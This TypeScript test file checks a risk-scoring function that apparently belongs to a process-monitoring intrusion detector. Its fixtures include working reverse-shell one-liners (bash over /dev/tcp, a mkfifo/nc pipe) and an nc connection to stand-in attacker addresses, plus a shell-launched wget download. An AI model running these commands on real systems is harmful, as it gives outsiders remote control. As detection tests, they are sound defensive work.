import { describe, expect, it } from 'vitest';
import type { ProcessContext } from './process-context.js';
import { testContext as ctx } from './test-context.js';
import { scoreRisk } from './risk-rules.js';


describe('scoreRisk', () => {
  it.each<[string, Partial<ProcessContext>, string[]]>([
    ['a browser', {}, []],
    ['bash -i to /dev/tcp', { name: 'bash', cmdline: 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1', ancestors: ['sshd'], tty: 'pts/0' }, ['shell_owns_socket', 'dev_tcp', 'reverse_shell_pattern']],
    ['nc started by a cron shell', { name: 'nc', cmdline: 'nc 203.0.113.5 4444', ancestors: ['sh', 'cron'] }, ['lolbin_from_shell']],
    ['sh under mkfifo', { name: 'sh', cmdline: 'sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f', ancestors: ['php-fpm8.2'] }, ['shell_owns_socket', 'reverse_shell_pattern', 'service_spawned_shell', 'shell_without_tty']],
    ['wget from a shell under apache', { name: 'wget', cmdline: 'wget http://x/y', ancestors: ['sh', 'apache2', 'systemd'] }, ['lolbin_from_shell_under_service', 'lolbin_from_shell', 'service_spawned_shell']],
    ['a deleted binary in /dev/shm', { name: 'kworker', exe: '/dev/shm/.x (deleted)' }, ['deleted_executable', 'executable_in_temp']],
    ['a beacon open for hours', { periodic: true, lifetime: 7200 }, ['periodic_births', 'long_lived']],
  ])('%s', (_label, over, reasons) => {
    expect(scoreRisk(ctx(over)).reasons).toEqual(reasons);
  });

  it('caps the score at 100', () => {
    expect(scoreRisk(ctx({ name: 'bash', cmdline: 'bash -i >& /dev/tcp/1.2.3.4/1 0>&1', ancestors: ['nginx'] })).score).toBe(100);
  });
});
